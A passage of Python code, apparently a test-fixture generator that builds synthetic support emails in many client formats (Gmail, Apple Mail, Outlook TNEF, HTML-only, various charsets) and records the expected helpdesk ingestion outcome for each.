        f,
        outlook(
            f,
            BOB,
            "Quote for additional cloud storage",
            body,
            onprem=True,
            mailer=True,
            tnef=tnef_blob(f, "Quote for additional cloud storage", body, []),
        ),
        "created",
        "winmail.dat carrying only the message body (no attachments inside)",
        attachments=0,
    )

    f = "winmail/tnef-04.eml"
    body = (
        "Hi,\n\nScreenshot attached normally, event log export came through\n"
        "inside the Outlook rich text part.\n\nNina\n"
    )
    add(
        f,
        outlook(
            f,
            ("Nina Newhire", "newhire@initech.example"),
            "Event 8193 from VSS on HV01",
            body,
            attachments=[("hv01-vss.png", "image/png", png(f, 40, 20))],
            onprem=True,
            mailer=True,
            tnef=tnef_blob(
                f,
                "Event 8193 from VSS on HV01",
                body,
                [
                    (
                        "HV01-Application.evtx.csv",
                        b"Level,Date,Source,EventID\r\nError,6/2/2025 1:14,VSS,8193\r\n",
                        "text/csv",
                    )
                ],
            ),
        ),
        "created",
        "One regular attachment next to a winmail.dat holding one more",
        attachments=2,
    )

    f = "winmail/tnef-05.eml"
    body = "Hello,\n\nThe job summary is attached (sent from Outlook 2010).\n" + SIG["ivan"]
    blob = tnef_blob(
        f,
        "Job summary",
        body,
        [("summary.txt", b"All jobs: 14 ok, 2 failed\r\n" * 20, "text/plain")],
    )
    add(
        f,
        outlook(
            f,
            IVAN,
            "Job summary for last week",
            body,
            onprem=True,
            mailer=True,
            tnef=blob[: len(blob) - 180],
        ),
        "created",
        "Truncated winmail.dat (cut inside the attachment data); must not crash ingestion. Attachment count not checked",
    )


def gmail_folder() -> None:
    f = "gmail/new-01.eml"
    add(
        f,
        gmail(
            f,
            ("Sam Someone", "someone@gmail.com"),
            "Backup agent won't start after reboot",
            "Hi,\n\nI run the home office edition on my Windows 11 laptop. Since the\n"
            "last reboot the agent service stops right after starting. Event log\n"
            'says "service terminated unexpectedly".\n\nThanks,\nSam\n',
        ),
        "created",
        "Gmail web client, unknown sender, text/plain 7bit + HTML",
    )

    f = "gmail/new-02.eml"
    add(
        f,
        gmail(
            f,
            GINA,
            "Backup of reception PC failing since Monday",
            'Hello,\n\nThe reception PC backup fails with "network path not found".\n'
            "The PC was renamed last week from RECEPTION to GLX-RECEP01.\n" + SIG["gina"],
            workspace=True,
        ),
        "created",
        "Google Workspace user (globex.example signs its own DKIM)",
    )

    f = "gmail/new-03.eml"
    add(
        f,
        gmail(
            f,
            ("Marta Garc\u00eda", "marta.garcia@gmail.com"),
            "Restauraci\u00f3n muy lenta desde la nube",
            "Hola,\n\nLa restauraci\u00f3n de 40 GB desde la nube tarda m\u00e1s de 12 horas.\n"
            "\u00bfEs normal? Tenemos fibra de 300 Mbps.\n\nGracias,\nMarta\n",
        ),
        "created",
        "Gmail, Spanish, UTF-8 quoted-printable and base64 encoded-word subject",
    )

    f = "gmail/new-04.eml"
    add(
        f,
        gmail(
            f,
            ("Sam Someone", "someone@gmail.com"),
            "Log files for the agent problem",
            "Hi again,\n\nForgot to attach the logs in my first mail. Here they are.\n\nSam\n",
            attachments=[
                (
                    "AgentService.log",
                    'text/plain; charset="US-ASCII"',
                    agent_log(f, 20, "SERVICE_TERMINATED"),
                ),
                (
                    "agent-config.xml",
                    'text/xml; charset="US-ASCII"',
                    b'<?xml version="1.0"?>\n<agent><server>idr01</server><port>9443</port></agent>\n',
                ),
            ],
        ),
        "created",
        "Gmail with two attachments; new subject, no threading headers -> a new ticket",
        attachments=2,
    )

    f = "gmail/new-05.eml"
    add(
        f,
        gmail(
            f,
            ("Priya Raman", "priya.raman@gmail.com"),
            "Screenshot of the error",
            "Hello,\n\nSee the screenshot, the appliance UI says the disk array is degraded.\n\nPriya\n",
            inline=[("image.png", "image/png", png(f, 60, 40))],
        ),
        "created",
        "Gmail inline image (multipart/related, ii_ Content-ID)",
        inline_images=1,
        attachments=0,
    )

    f = "gmail/new-06.eml"
    add(
        f,
        gmail(
            f,
            ("Sam Someone", "someone@gmail.com"),
            "SEV1!!! ALL BACKUPS FAILED",
            "ALL BACKUPS FAILED LAST NIGHT!!! PLEASE HELP ASAP!!!\n\nSam\n",
            mobile=True,
        ),
        "created",
        "All-caps emergency from an unknown sender; still opens at Sev3",
        severity=3,
    )

    f = "gmail/reply-new-01.eml"
    add(
        f,
        gmail(
            f,
            ("Sam Someone", "someone@gmail.com"),
            "Re: Backup agent won't start after reboot",
            "Never mind the logs question - here is what support asked for: the\n"
            "agent version is 8.6.1.2207.\n\nSam\n"
            + "\nOn Mon, Jun 2, 2025 at 9:02 AM Infrascale Support <support@desk.example> wrote:\n"
            "> Hello,\n>\n> Thanks for contacting Infrascale Support.\n>\n",
            irt=of("gmail/new-01.eml"),
            refs=of("gmail/new-01.eml"),
        ),
        "appended",
        "Gmail reply to the ack of a ticket created earlier in the batch",
        ticket="@gmail/new-01.eml",
    )

    f = "gmail/reply-new-02.eml"
    add(
        f,
        gmail(
            f,
            GINA,
            "Re: Backup of reception PC failing since Monday",
            "Update: renaming the PC back did not help.\n"
            + SIG["gina"]
            + "\nOn Mon, Jun 2, 2025 at 9:30 AM Infrascale Support <support@desk.example> wrote:\n"
            "> Hello Gina,\n>\n> Thanks for contacting Infrascale Support.\n>\n",
            irt=of("gmail/new-02.eml"),
            refs=of("gmail/new-02.eml"),
            workspace=True,
        ),
        "appended",
        "Workspace user replies to her own new ticket",
        ticket="@gmail/new-02.eml",
    )

    f = "gmail/reply-a-01.eml"
    add(
        f,
        gmail(
            f,
            ("Ivan Initech", "ivan.initech.home@gmail.com"),
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "Writing from my personal account, I'm at home: the job failed again.\n\nIvan\n"
            + ack_quote_gmail("A"),
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
        ),
        "held",
        "Requester writes from a personal Gmail address: not a participant of A",
        ticket="A",
        reason="sender",
    )

    f = "gmail/reply-a-02.eml"
    add(
        f,
        gmail(
            f,
            ("Ivan Initech", "ivan@initech.example"),
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "Sending from the Gmail app on my phone: the restart did not help.\n\nIvan\n"
            + ack_quote_gmail("A"),
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
            workspace=False,
        ),
        "appended",
        "Requester's company address relayed through Gmail (send-as)",
        ticket="A",
    )

    f = "gmail/reply-b-01.eml"
    add(
        f,
        gmail(
            f,
            ALICE,
            f"Re: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "Hi, attaching the NAS event log export.\n" + SIG["alice"] + ack_quote_gmail("B"),
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
            workspace=True,
            attachments=[
                (
                    "nas-events.csv",
                    'text/csv; charset="US-ASCII"',
                    b"time,level,event\r\n2025-05-30 18:02,warn,Volume 1 degraded\r\n",
                )
            ],
        ),
        "appended",
        "Workspace reply on B with one attachment",
        ticket="B",
        attachments=1,
    )

    f = "gmail/new-07.eml"
    add(
        f,
        gmail(
            f,
            ("Tom Tanaka", "tom.tanaka@gmail.com"),
            "Agent install on macOS Sonoma",
            "Hi,\n\nIs the agent supported on macOS 14? The installer says the\n"
            "system extension is blocked even after approving it.\n\nTom\n",
        ),
        "created",
        "Plain Gmail question",
    )

    f = "gmail/new-08.eml"
    add(
        f,
        gmail(
            f,
            ("Lee Park", "lee.park@gmail.com"),
            "Fwd: Appliance warning: RAID degraded",
            "Got this from the appliance overnight, what should I do?\n\n"
            "---------- Forwarded message ---------\nFrom: IDR Appliance <noreply@idr01.local>\n"
            "Date: Mon, Jun 2, 2025 at 3:14 AM\nSubject: Appliance warning: RAID degraded\n"
            "To: <lee.park@gmail.com>\n\n\nDisk 3 in array md1 reports SMART errors.\n",
        ),
        "created",
        "Gmail inline forward of an automatic alert: the forward is human mail",
    )

    f = "gmail/new-09.eml"
    add(
        f,
        gmail(
            f,
            ("ops team", "ops@unknown-corp.example"),
            "Restore test failed: checksum mismatch",
            "Hi,\n\nOur quarterly restore test found a checksum mismatch on 3 files\n"
            "restored from the cloud copy. Paths in the attached list.\n\nUnknown Corp Ops\n",
            workspace=True,
            attachments=[
                (
                    "mismatch.txt",
                    'text/plain; charset="US-ASCII"',
                    b"D:\\Finance\\2024\\ledger.xlsx\r\nD:\\Finance\\2024\\q3.pdf\r\nD:\\HR\\contracts.zip\r\n",
                )
            ],
        ),
        "created",
        "Workspace sender of an unknown company",
        attachments=1,
    )

    f = "gmail/new-10.eml"
    add(
        f,
        gmail(
            f,
            ("Sam Someone", "someone@gmail.com"),
            "Different question: pricing for 2 more PCs",
            "Hi,\n\nHow much would it cost to add two more PCs to my plan?\n\nSam\n",
            cc=[("Jo Someone", "jo.someone@gmail.com")],
        ),
        "created",
        "Second, unrelated request from the same Gmail user; Cc to a family member",
    )

    f = "gmail/new-11.eml"
    add(
        f,
        gmail(
            f,
            ("Yusuf \u00d6zt\u00fcrk", "yusuf.ozturk@gmail.com"),
            "Yedekleme i\u015fi hata veriyor",
            "Merhaba,\n\nG\u00fcnl\u00fck yedekleme i\u015fi 'Eri\u015fim engellendi' hatas\u0131 veriyor.\n\nYusuf\n",
        ),
        "created",
        "Gmail in Turkish, UTF-8 display name and subject",
    )

    f = "gmail/reply-new-03.eml"
    add(
        f,
        gmail(
            f,
            ERIN,
            "Re: Restore test failed: checksum mismatch",
            "Hi,\n\nCould you tell us which appliance firmware you run? There was a\n"
            "fix for cloud copy verification in 7.4.2.\n"
            + SIG["erin"]
            + "\nOn Mon, Jun 2, 2025 at 1:05 PM ops team <ops@unknown-corp.example> wrote:\n> Hi,\n>\n> Our quarterly restore test found a checksum mismatch\n",
            irt=of("gmail/new-09.eml"),
            refs=of("gmail/new-09.eml"),
            workspace=True,
            cc=[("ops team", "ops@unknown-corp.example")],
        ),
        "appended",
        "Vendor engineer answers by mail on a ticket created in this batch",
        ticket="@gmail/new-09.eml",
    )

    f = "gmail/new-12.eml"
    add(
        f,
        gmail(
            f,
            ("Dana Ng", "dana.ng@gmail.com"),
            "restore",
            "restore not working\n\nSent from my iPhone\n",
            mobile=True,
        ),
        "created",
        "Terse mobile Gmail message with a one-word subject",
    )

    f = "gmail/new-13.eml"
    add(
        f,
        gmail(
            f,
            ("Chris Long", "chris.long@gmail.com"),
            "A very long subject line describing the problem in detail: cloud replication of the Hyper-V cluster volumes stops at 99 percent every night and restarts",
            "As in the subject. Thanks.\n\nChris\n",
        ),
        "created",
        "Very long subject, left unfolded as Gmail sends it",
    )

    f = "gmail/new-14.eml"
    add(
        f,
        gmail(
            f,
            ("Sam Someone", "someone@gmail.com"),
            "",
            "Hi, my previous mails had no answer yet - is anyone there?\n\nSam\n",
        ),
        "created",
        "Empty Subject header",
    )

    f = "gmail/reply-foreign-01.eml"
    add(
        f,
        gmail(
            f,
            ("Priya Raman", "priya.raman@gmail.com"),
            "Re: RAID question",
            "Following up on the mail I sent you last month.\n\nPriya\n"
            + "\nOn Fri, May 2, 2025 at 10:00 AM Priya Raman <priya.raman@gmail.com> wrote:\n> Hello, quick RAID question...\n",
            irt=foreign_id(f),
            refs=foreign_id(f),
        ),
        "created",
        "Gmail reply to a message we never sent (foreign In-Reply-To): a new ticket",
    )

    f = "gmail/new-15.eml"
    add(
        f,
        gmail(
            f,
            ("Lee Park", "lee.park@gmail.com"),
            "Agent install fails: .NET 4.8 missing",
            "Hi,\n\nThe installer says .NET 4.8 is missing but it is installed.\n\nLee\n",
            attachments=[("installer.png", "image/png", png(f, 50, 30))],
            inline=[("image.png", "image/png", png(f + "i", 30, 20))],
        ),
        "created",
        "Gmail with an inline image and a regular attachment",
        attachments=1,
        inline_images=1,
    )


def apple_folder() -> None:
    ANNA = ("Anna Lindqvist", "anna@icloud.com")
    f = "apple/new-01.eml"
    add(
        f,
        apple(
            f,
            ANNA,
            "Time Machine vs your agent",
            "Hi,\n\nCan the backup agent run alongside Time Machine on the same\nexternal disk, or do I need a separate one?\n\nBest,\nAnna\n",
        ),
        "created",
        "Apple Mail (macOS), Apple-Mail=_ boundary, Mac OS X Mail Mime-Version comment",
    )

    f = "apple/new-02.eml"
    add(
        f,
        apple(
            f,
            ALICE,
            "Agent asks for Full Disk Access again",
            "Hello,\n\nAfter the macOS 15.5 update, the agent on the front-desk iMac\nasks for Full Disk Access on every boot. I granted it twice.\n"
            + SIG["alice"],
        ),
        "created",
        "Apple Mail from a customer user (Acme)",
    )

    f = "apple/new-03.eml"
    add(
        f,
        apple(
            f,
            ALICE,
            "Backup report from the iMac",
            "Hi,\n\nReport attached as PDF.\n" + SIG["alice"],
            attachments=[("Backup Report.pdf", "application/pdf", pdf("Backup report iMac-FRONT"))],
        ),
        "created",
        "Apple Mail with a PDF: alternative{plain, mixed{html, pdf, html}} structure",
        attachments=1,
    )

    f = "apple/new-04.eml"
    add(
        f,
        apple(
            f,
            ANNA,
            "Screenshot of the stuck upload",
            "Hi,\n\nHere is what I see in the menu bar app.\n\nAnna\n",
            inline=[("Screenshot 2025-06-02 at 10.14.22.png", "image/png", png(f, 70, 44))],
        ),
        "created",
        "Apple Mail inline screenshot in multipart/related with a filename containing spaces",
        inline_images=1,
        attachments=0,
    )

    f = "apple/new-05.eml"
    add(
        f,
        apple(
            f,
            ("Jonas Berg", "jonas@unknown-corp.example"),
            "Two logs",
            "Both logs attached.\n\nJonas\n",
            rich=False,
            attachments=[
                ("agent.log", "text/plain", agent_log(f)),
                ("upload.log", "text/plain", agent_log(f + "u", 10, "HTTP 503")),
            ],
        ),
        "created",
        "Apple Mail plain-text compose with attachments: mixed{plain, file, file, plain}",
        attachments=2,
    )

    f = "apple/new-06.eml"
    add(
        f,
        apple(
            f,
            ("Jonas Berg", "jonas@unknown-corp.example"),
            "CRITICAL \u2013 all backups failing!!",
            "All jobs red since 01:00. Appliance unreachable over HTTPS.\n\nJonas\n",
            iphone=True,
        ),
        "created",
        "iPhone Mail critical-sounding subject with an en dash (Q-encoded); opens at Sev3",
        severity=3,
    )

    f = "apple/new-07.eml"
    add(
        f,
        apple(
            f,
            ANNA,
            "Restore to a new Mac",
            "Hi,\n\nMy MacBook died. How do I restore everything to the new one?\n\nSent from my iPhone\n",
            iphone=True,
        ),
        "created",
        "iPhone Mail single text/plain part, QP, Mime-Version: 1.0 (1.0)",
    )

    f = "apple/reply-a-01.eml"
    add(
        f,
        apple(
            f,
            IVAN,
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "It failed again tonight, same error.\n\nSent from my iPhone\n\n"
            "> On 2 Jun 2025, at 08:12, Infrascale Support <support@desk.example> wrote:\n>\n"
            "> Thanks for contacting Infrascale Support. Your request\n"
            "> has been received and assigned the number {{NUMBER_A}}.\n",
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
            iphone=True,
        ),
        "appended",
        "iPhone reply by the requester",
        ticket="A",
    )

    f = "apple/reply-b-01.eml"
    add(
        f,
        apple(
            f,
            ALICE,
            f"Re: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "Hi,\n\nThe x-ray folder is 180 GB, in case that matters.\n"
            + SIG["alice"]
            + "\n> On 2 Jun 2025, at 08:12, Infrascale Support <support@desk.example> wrote:\n>\n> Thanks for contacting Infrascale Support.\n",
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
        ),
        "appended",
        "Apple Mail reply on B with blockquote type=cite",
        ticket="B",
    )

    f = "apple/reply-b-02.eml"
    add(
        f,
        apple(
            f,
            ("Dr. Acme", "doctor@acme.example"),
            f"Re: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "When can we expect the images back? Patients are waiting.\n\nDr. Acme\n",
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
            iphone=True,
        ),
        "appended",
        "Someone at the company's domain (not a user) replies on B: a participant",
        ticket="B",
    )

    f = "apple/new-08.eml"
    add(
        f,
        apple(
            f,
            ("Jonas Berg", "jonas@unknown-corp.example"),
            "Appliance fan noise",
            "Hi,\n\nThe appliance fan got very loud since yesterday. Video attached.\n\nJonas\n",
            attachments=[
                (
                    "IMG_4411.MOV",
                    "video/quicktime",
                    b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  " + hbytes(f, 600),
                )
            ],
        ),
        "created",
        "Apple Mail with a (tiny) video attachment",
        attachments=1,
    )

    f = "apple/new-09.eml"
    add(
        f,
        apple(
            f,
            ("Zo\u00eb \u00c5str\u00f6m", "zoe@icloud.com"),
            "Fr\u00e5ga om \u00e5terst\u00e4llning",
            "Hej!\n\nHur \u00e5terst\u00e4ller jag en enskild fil fr\u00e5n molnet?\n\nZo\u00eb\n",
        ),
        "created",
        "Apple Mail, Swedish, Q-encoded UTF-8 subject and display name",
    )

    f = "apple/reply-new-01.eml"
    add(
        f,
        apple(
            f,
            ANNA,
            "Re: Time Machine vs your agent",
            "Thanks - I will get a second disk then.\n\nAnna\n\n"
            "> On 2 Jun 2025, at 09:40, Infrascale Support <support@desk.example> wrote:\n>\n> Hello Anna,\n",
            irt=of("apple/new-01.eml"),
            refs=of("apple/new-01.eml"),
        ),
        "appended",
        "Apple Mail reply to a ticket created earlier in the batch",
        ticket="@apple/new-01.eml",
    )

    f = "apple/new-10.eml"
    add(
        f,
        apple(
            f,
            ALICE,
            "Photos of the appliance display",
            "Two photos of the LCD on the appliance.\n" + SIG["alice"],
            iphone=True,
            rich=False,
            attachments=[
                (
                    "IMG_0001.jpeg",
                    "image/jpeg",
                    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + hbytes(f, 400) + b"\xff\xd9",
                ),
                (
                    "IMG_0002.jpeg",
                    "image/jpeg",
                    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + hbytes(f + "2", 420) + b"\xff\xd9",
                ),
            ],
        ),
        "created",
        "iPhone Mail with two JPEG photos (Apple sends them as attachments in mixed)",
        attachments=2,
    )

    f = "apple/new-11.eml"
    add(
        f,
        apple(
            f,
            ANNA,
            "Is my data encrypted at rest?",
            "Hi,\n\nQuick security question: is the cloud copy encrypted at rest,\nand who holds the key? We need this for a GDPR questionnaire.\n\nAnna\n",
        ),
        "created",
        "Apple Mail plain question",
    )

    f = "apple/reply-a-02.eml"
    add(
        f,
        apple(
            f,
            ("Ivan Initech", "ivan@initech.example"),
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "One more thing: FS01 is a Hyper-V guest, not physical.\n" + SIG["ivan"],
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
        ),
        "appended",
        "Apple Mail reply by the requester",
        ticket="A",
    )


def html_doc(body: str, head: str = "") -> str:
    return f'<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n{head}</head>\n<body>\n{body}\n</body>\n</html>\n'


def html_only(
    file,
    frm,
    subject,
    html,
    *,
    mailer="Zimbra 10.0.8_GA_4611 (ZimbraWebClient - FF126 (Win)/10.0.8_GA_4611)",
    irt=None,
    refs=None,
    inline=(),
    charset="utf-8",
    cte="quoted-printable",
):
    dt = tick()
    dom = domain(frm)
    hp = Leaf(
        [("Content-Type", f"text/html; charset={charset}"), ("Content-Transfer-Encoding", cte)],
        qp(html, charset)
        if cte == "quoted-printable"
        else (b64(html.encode(charset)) if cte == "base64" else html),
    )
    node = hp
    if inline:
        b = f"=_{hx(file + 'rel', 32)}"
        parts = [hp]
        for n, ct, d, cid in inline:
            parts.append(
                Leaf(
                    [
                        ("Content-Type", f"{ct}; name={n}"),
                        ("Content-Disposition", f"inline; filename={n}"),
                        ("Content-Transfer-Encoding", "base64"),
                        ("Content-ID", f"<{cid}>"),
                    ],
                    b64(d),
                )
            )
        node = Multi(
            [("Content-Type", f'multipart/related; type="text/html"; boundary="{b}"')], b, parts
        )
    top = delivery_top(file, frm[1], dt) + [
        mx_received(file, f"zimbra.{dom}", f"198.51.100.{num(file, 2, 250)}", dt),
        auth_results(dom, dkim=False),
        ("Date", rfcdate(dt, 120)),
        ("From", addr(frm)),
        ("To", "support@desk.example"),
        (
            "Message-ID",
            f"<{num(file, 100000000, 999999999)}.{num(file + 'z', 1000000, 9999999)}.{int(dt.timestamp())}{num(file, 100, 999)}.JavaMail.zimbra@{dom}>",
        ),
    ]
    if irt:
        top.append(("In-Reply-To", irt))
    if refs:
        top.append(("References", refs))
    top += [
        ("Subject", subject),
        ("MIME-Version", "1.0"),
        ("__MIME__", ""),
        ("X-Mailer", mailer),
        ("Thread-Index", thread_index(file)),
        ("Thread-Topic", re.sub(r"^Re:\s*", "", subject)),
    ]
    return message(top, node)


def html_folder() -> None:
    f = "html/only-01.eml"
    add(
        f,
        html_only(
            f,
            ("Carlos Mendez", "carlos@unknown-corp.example"),
            "Backup window too short",
            html_doc(
                '<div style="font-family: arial, helvetica, sans-serif; font-size: 12pt; color: #000000">'
                "<div>Hello,</div><div><br></div><div>Our nightly backup does not finish before 06:00 when the"
                " office opens. Can we run the <b>incremental</b> jobs in parallel?</div><div><br></div>"
                "<div>Carlos</div></div>"
            ),
        ),
        "created",
        "Zimbra HTML-only message (no text/plain part)",
    )

    f = "html/table-01.eml"
    rows = "".join(
        f'<tr><td>{j}</td><td>{h}</td><td style="color:{"red" if s == "Failed" else "green"}">{s}</td><td>{d}</td></tr>'
        for j, h, s, d in [
            ("FS-Daily", "FS01", "Failed", "00:19:44"),
            ("SQL-Daily", "SQL02", "Failed", "00:20:02"),
            ("DC-Image", "DC01", "Success", "01:12:09"),
            ("Mail-Archive", "EX01", "Success", "00:44:51"),
        ]
    )
    add(
        f,
        outlook(
            f,
            IVAN,
            "Job history for the last week (table)",
            "Hi,\n\nJob history pasted below (HTML table).\n" + SIG["ivan"],
            html=outlook_html(
                "Hi,\n\nJob history pasted below.\n" + SIG["ivan"],
                "us-ascii",
                extra_html='<table border="1" cellspacing="0" cellpadding="4"><tr><th>Job</th><th>Host</th><th>Status</th><th>Duration</th></tr>'
                + rows
                + "</table>\n",
            ),
        ),
        "created",
        "Outlook HTML with a pasted table of job results",
    )

    f = "html/datauri-01.eml"
    img = base64.b64encode(png(f, 20, 10)).decode()
    add(
        f,
        html_only(
            f,
            ("Carlos Mendez", "carlos@unknown-corp.example"),
            "Error icon in the console",
            html_doc(
                f'<p>The console shows this icon next to every job: <img src="data:image/png;base64,{img}" alt="icon"></p><p>Carlos</p>'
            ),
            cte="base64",
        ),
        "created",
        "HTML-only, base64 body, image embedded as a data: URI (no MIME image part)",
    )

    f = "html/remote-01.eml"
    add(
        f,
        html_only(
            f,
            ("Marketing Ops", "mops@unknown-corp.example"),
            "Question about your partner program",
            html_doc(
                "<p>Hi,</p><p>We are an MSP interested in reselling your backup appliance. Who should we talk to?</p>"
                '<p><img src="https://tracking.unknown-corp.example/open.gif?id=8812" width="1" height="1" alt=""></p>'
                '<p><img src="https://cdn.unknown-corp.example/logo.png" alt="Unknown Corp"></p>'
            ),
            mailer="HubSpot",
        ),
        "created",
        "HTML with a remote tracking pixel and remote logo (must not be fetched when rendered)",
    )

    f = "html/cid-02.eml"
    add(
        f,
        html_only(
            f,
            ("Carlos Mendez", "carlos@unknown-corp.example"),
            "Two screenshots of the replication page",
            html_doc(
                '<p>Before:</p><img src="cid:part1.Kq3c2x7Z.9fGt0a1B@unknown-corp.example"><p>After:</p>'
                '<img src="cid:part2.Kq3c2x7Z.9fGt0a1B@unknown-corp.example">'
            ),
            inline=[
                (
                    "before.png",
                    "image/png",
                    png(f + "1", 60, 30),
                    "part1.Kq3c2x7Z.9fGt0a1B@unknown-corp.example",
                ),
                (
                    "after.png",
                    "image/png",
                    png(f + "2", 60, 30),
                    "part2.Kq3c2x7Z.9fGt0a1B@unknown-corp.example",
                ),
            ],
        ),
        "created",
        "HTML-only with two cid inline images in multipart/related",
        inline_images=2,
        attachments=0,
    )

    f = "html/mso-01.eml"
    add(
        f,
        outlook(
            f,
            ("Hanna Kowalski", "hanna@unknown-corp.example"),
            "Storage pool expansion",
            "Hello,\n\nWe added 4 disks to the appliance; how do we expand the pool?\n\nHanna\n",
            mailer=True,
            onprem=True,
        ),
        "created",
        "Outlook Word-generated HTML with MSO conditional comments and VML namespaces",
    )

    f = "html/reply-b-01.eml"
    quoted = (
        "<div>Thanks, the restore is running again.</div><div><br></div><div>Alice</div>"
        '<blockquote style="margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex"><div>Hello Alice,<br>'
        "Thanks for contacting Infrascale Support.</div></blockquote>"
    )
    add(
        f,
        gmail(
            f,
            ALICE,
            f"Re: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "Thanks, the restore is running again.\n\nAlice\n" + ack_quote_gmail("B"),
            html=f'<div dir="ltr">{quoted}</div>\n',
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
            workspace=True,
        ),
        "appended",
        "HTML reply with a quoted blockquote on B",
        ticket="B",
    )

    f = "html/form-01.eml"
    add(
        f,
        html_only(
            f,
            ("Webform", "webform@unknown-corp.example"),
            "Support form: agent licence transfer",
            html_doc(
                '<base href="https://unknown-corp.example/">'
                "<h2>Licence transfer request</h2><table><tr><td>Name</td><td>Kim Osei</td></tr>"
                "<tr><td>Old host</td><td>PC-114</td></tr><tr><td>New host</td><td>PC-220</td></tr></table>"
                '<form action="/confirm" method="post"><input type="hidden" name="t" value="1"><button>Confirm</button></form>'
            ),
            mailer="PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        ),
        "created",
        "HTML from a web form script with <base>, <form> and <button> (rendered inert)",
    )

    f = "html/newsletterish-01.eml"
    add(
        f,
        html_only(
            f,
            ("Kim Osei", "kim.osei@unknown-corp.example"),
            "Our weekly IT report (FYI, backup section)",
            html_doc(
                '<table width="600" align="center" style="background:#f4f4f4"><tr><td><h1 style="font:24px Georgia">IT weekly</h1>'
                "<p>Backups: 3 failures on FS01 this week, see ticket with vendor.</p>"
                '<p style="font-size:10px">You are receiving this because you are on the IT distribution list.</p></td></tr></table>',
                "<style>h1{color:#336699}@media (max-width:600px){table{width:100%!important}}</style>\n",
            ),
        ),
        "created",
        "Layout-heavy HTML from a person (no list headers): a normal new ticket",
    )

    f = "html/reply-a-01.eml"
    nest = "Thanks."
    for i in range(8):
        nest = f"<div>Reply {8 - i}</div><blockquote>{nest}</blockquote>"
    add(
        f,
        outlook(
            f,
            IVAN,
            f"RE: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "See the history below, the issue came back.\n" + SIG["ivan"],
            html=outlook_html(
                "See the history below, the issue came back.\n" + SIG["ivan"],
                "us-ascii",
                extra_html=nest + "\n",
            ),
        ),
        "appended",
        "Outlook HTML with an 8-deep blockquote chain; threaded by the subject token only",
        ticket="A",
    )


def raw_mail(
    file,
    frm,
    subject_h,
    node,
    *,
    mailer="Mozilla Thunderbird",
    irt=None,
    refs=None,
    to="support@desk.example",
    tz=60,
    extra=(),
    from_h=None,
    msgid=True,
    dt=None,
):
    """Thunderbird-shaped envelope around a hand-built MIME tree."""
    dt = dt or tick()
    dom = domain(frm)
    top = delivery_top(file, frm[1], dt) + [
        mx_received(file, f"mail.{dom}", f"203.0.113.{num(file, 2, 250)}", dt),
        auth_results(dom, dkim=False, dmarc="none"),
    ]
    if msgid:
        top.append(("Message-ID", f"<{guid(file).lower()}@{dom}>"))
    top += [
        ("Date", rfcdate(dt, tz)),
        ("MIME-Version", "1.0"),
        ("User-Agent", mailer),
        ("Content-Language", "en-US"),
    ]
    if refs:
        top.append(("References", refs))
    if irt:
        top.append(("In-Reply-To", irt))
    top += [
        ("To", to),
        ("From", from_h if from_h is not None else addr(frm)),
        ("Subject", subject_h),
    ]
    top += list(extra) + [("__MIME__", "")]
    return message(top, node)


def tb_text(text, charset="UTF-8", cte=None):
    if cte is None:
        cte = "7bit" if is_ascii(text) else "8bit"
    body = (
        text
        if cte == "7bit"
        else (
            raw8(text, charset)
            if cte == "8bit"
            else (qp(text, charset) if cte == "quoted-printable" else b64(text.encode(charset)))
        )
    )
    return Leaf(
        [
            ("Content-Type", f"text/plain; charset={charset}; format=flowed"),
            ("Content-Transfer-Encoding", cte),
        ],
        body,
    )


def tb_mixed(file, parts, preamble="This is a multi-part message in MIME format.\n"):
    b = "------------" + an(file + "mix", 24)
    return Multi(
        [("Content-Type", f'multipart/mixed; boundary="{b}"')], b, parts, preamble=preamble
    )


def att(ctype, disp, data, cte="base64", extra=()):
    return Leaf(
        [("Content-Type", ctype), ("Content-Disposition", disp), ("Content-Transfer-Encoding", cte)]
        + list(extra),
        b64(data) if cte == "base64" else data.decode("latin-1"),
    )


def charsets_folder() -> None:
    specs = [
        (
            "charsets/iso-2022-jp.eml",
            ("Tanaka Hiroshi", "tanaka@jp-reseller.example"),
            "iso-2022-jp",
            "7bit",
            "\u30d0\u30c3\u30af\u30a2\u30c3\u30d7\u30b8\u30e7\u30d6\u306e\u5931\u6557\u306b\u3064\u3044\u3066",
            "\u3044\u3064\u3082\u304a\u4e16\u8a71\u306b\u306a\u3063\u3066\u304a\u308a\u307e\u3059\u3002\n\n"
            "\u30d0\u30c3\u30af\u30a2\u30c3\u30d7\u30b8\u30e7\u30d6\u304c\u6bce\u6669\u5931\u6557\u3057\u307e\u3059\u3002\n"
            "\u30a8\u30e9\u30fc\u30b3\u30fc\u30c9\u306f 0x800423F4 \u3067\u3059\u3002\n\u3054\u78ba\u8a8d\u3092\u304a\u9858\u3044\u3044\u305f\u3057\u307e\u3059\u3002\n\n\u7530\u4e2d\n",
            "ISO-2022-JP 7bit body and B-encoded subject (classic Japanese mail)",
        ),
        (
            "charsets/shift_jis.eml",
            ("Sato Yuki", "sato@jp-reseller.example"),
            "shift_jis",
            "base64",
            "\u30ea\u30b9\u30c8\u30a2\u304c\u9014\u4e2d\u3067\u6b62\u307e\u308a\u307e\u3059",
